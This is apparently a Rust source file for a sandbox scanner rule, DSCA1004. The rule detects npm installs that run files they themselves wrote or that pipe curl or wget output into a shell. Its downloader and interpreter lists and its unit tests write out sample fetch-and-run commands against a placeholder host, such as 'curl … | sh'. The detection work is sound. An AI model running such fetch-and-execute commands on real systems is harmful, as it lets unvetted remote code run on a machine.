//! DSCA1004: a program ran a file the run itself had written, or piped a download into
//! a shell.

use super::{RunContext, SHELLS, basename, command_line, shell_command, short};
use crate::Analysis;
use crate::metadata::finding_with_evidence;
use crate::shell::{self, Separator};
use dsca_model::dynamic::{Exec, FileOp};
use dsca_model::{Category, Evidence, Rule, Severity, Signal};
use std::collections::HashMap;

pub const RULE: Rule = Rule {
    id: "DSCA1004",
    name: "download-and-execute",
    category: Category::Execution,
    signal: Signal::Behaviour,
    severity: Severity::High,
    title: "Ran a file it had just written, or piped a download into a shell",
    problem: "In the sandbox, a program ran a file that the install itself had created \
        outside the installed packages, or a shell ran what curl or wget printed. What runs \
        is then not the published package but whatever was fetched or unpacked at install \
        time: the shape of a dropper.",
    next_steps: "Do not install this version. Find where the file came from (the URLs the \
        run requested, the program that wrote it) and what it does. If the version was \
        installed anywhere, treat that machine as compromised.",
    severities: &[Severity::High, Severity::Critical],
    catches: "ran a file the run wrote outside node_modules, or piped curl/wget into a shell; \
        critical with a non-registry download",
};

const DOWNLOADERS: &[&str] = &["curl", "wget"];
/// Programs that run the file named by their first argument.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "node", "nodejs", "python", "python2", "python3",
    "perl", "ruby", "php",
];
/// Nested command strings deeper than this are not followed.
const MAX_DEPTH: usize = 3;

pub(crate) fn check(run: &RunContext, out: &mut Analysis) {
    let written = written_files(run);
    let mut evidence = Vec::new();
    for process in &run.run.processes {
        for exec in &process.execs {
            if let Some(file) = executed_file(run, process.pid, exec)
                && let Some(&(op, written_at, writer)) = written.get(file.as_str())
                && written_at <= exec.time_ms
            {
                evidence.push(
                    Evidence::new(format!(
                        "pid {} ran `{}`, a file {} at {written_at} ms{}",
                        process.pid,
                        short(&run.display_path(&file), 120),
                        match op {
                            FileOp::MakeExecutable => "made executable",
                            FileOp::Rename => "renamed into place",
                            FileOp::Create => "created",
                            _ => "written",
                        },
                        run.by_process(Some(writer))
                    ))
                    .with_snippet(command_line(exec)),
                );
            }
            if let Some(command) = shell_command(exec)
                && let Some(downloader) = pipes_download_into_shell(command, 0)
            {
                evidence.push(
                    Evidence::new(format!(
                        "pid {} ran the output of `{downloader}` as code",
                        process.pid
                    ))
                    .with_snippet(command_line(exec)),
                );
            }
        }
    }
    let Some(first) = evidence.first() else {
        return;
    };
    let paired = run.reached_outside_registry();
    let severity = if paired {
        Severity::Critical
    } else {
        Severity::High
    };
    let mut message = first.detail.clone();
    if evidence.len() > 1 {
        message.push_str(&format!(" (and {} more)", evidence.len() - 1));
    }
    if paired {
        message.push_str(", after downloading from outside the registry");
    }
    out.findings
        .push(finding_with_evidence(&RULE, severity, message, evidence));
}

/// Files the run created, wrote, renamed into place or made executable outside the
/// installed packages, with the first such operation, when it happened and by whom.
fn written_files(run: &RunContext) -> HashMap<String, (FileOp, u64, u32)> {
    let node_modules = if run.project.is_empty() {
        String::new()
    } else {
        format!("{}/node_modules", run.project)
    };
    let mut written = HashMap::new();
    // A refused write wrote nothing that could be run.
    for event in run.run.files.iter().filter(|e| e.error.is_none()) {
        let path = match event.op {
            FileOp::Create | FileOp::Write | FileOp::MakeExecutable => event.path.as_str(),
            FileOp::Rename => match &event.target {
                Some(target) => target.as_str(),
                None => continue,
            },
            FileOp::Read | FileOp::Delete => continue,
        };
        let path = run.resolve(path, event.pid);
        // npm unpacks the packages there and links their bins: running them is normal.
        if RunContext::is_within(&path, &node_modules) {
            continue;
        }
        written
            .entry(path)
            .or_insert((event.op, event.time_ms, event.pid));
    }
    written
}

/// The file an exec runs: the program itself, or the script an interpreter is given.
fn executed_file(run: &RunContext, pid: u32, exec: &Exec) -> Option<String> {
    let program = basename(exec.argv.first().unwrap_or(&exec.path));
    if INTERPRETERS.contains(&program.as_str()) {
        let script = exec
            .argv
            .iter()
            .skip(1)
            .find(|arg| !arg.starts_with('-'))
            .filter(|_| shell_command(exec).is_none());
        if let Some(script) = script {
            return Some(run.resolve(script, pid));
        }
        return None;
    }
    (!exec.path.is_empty()).then(|| run.resolve(&exec.path, pid))
}

/// `curl … | sh`, `bash -c "$(wget -O- …)"`, `sh <(curl …)`: the downloader whose
/// output becomes code.
pub(crate) fn pipes_download_into_shell(command: &str, depth: usize) -> Option<String> {
    if depth > MAX_DEPTH {
        return None;
    }
    let parsed = shell::parse(command);
    let segments = &parsed.segments;
    for (index, segment) in segments.iter().enumerate() {
        let program = first_program(segment);
        if DOWNLOADERS.contains(&program.as_str())
            && segment.then == Separator::Pipe
            && segments
                .get(index + 1)
                .is_some_and(|next| INTERPRETERS.contains(&first_program(next).as_str()))
        {
            return Some(program);
        }
        // `bash -c "curl … | sh"` inside the string.
        if SHELLS.contains(&program.as_str())
            && let Some(position) = segment
                .words
                .iter()
                .position(|w| w.text.starts_with('-') && w.text.contains('c'))
            && let Some(inner) = segment.words.get(position + 1)
            && let Some(found) = pipes_download_into_shell(&inner.text, depth + 1)
        {
            return Some(found);
        }
    }
    let runs_code = segments
        .iter()
        .any(|s| INTERPRETERS.contains(&first_program(s).as_str()));
    if runs_code {
        for substitution in &parsed.substitutions {
            let body = shell::parse(substitution.body);
            if let Some(downloader) = body
                .segments
                .iter()
                .map(first_program)
                .find(|p| DOWNLOADERS.contains(&p.as_str()))
            {
                return Some(downloader);
            }
        }
    }
    None
}

/// The program of a simple command, after `VAR=value` assignments.
fn first_program(segment: &shell::Segment) -> String {
    segment
        .words
        .iter()
        .map(|w| w.text.as_str())
        .find(|w| !w.contains('=') || w.starts_with(['/', '.']))
        .map(basename)
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::pipes_download_into_shell;

    #[test]
    fn downloads_into_shells() {
        assert_eq!(
            pipes_download_into_shell("curl -fsSL https://x.example/i | sh", 0).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipes_download_into_shell("bash -c \"$(wget -qO- http://x.example)\"", 0).as_deref(),
            Some("wget")
        );
        assert_eq!(
            pipes_download_into_shell("bash <(curl -s http://x.example)", 0).as_deref(),
            Some("curl")
        );
        assert_eq!(pipes_download_into_shell("node-gyp rebuild", 0), None);
        assert_eq!(
            pipes_download_into_shell("curl -o x.tgz https://x.example/x.tgz && tar xzf x.tgz", 0),
            None
        );
    }
}
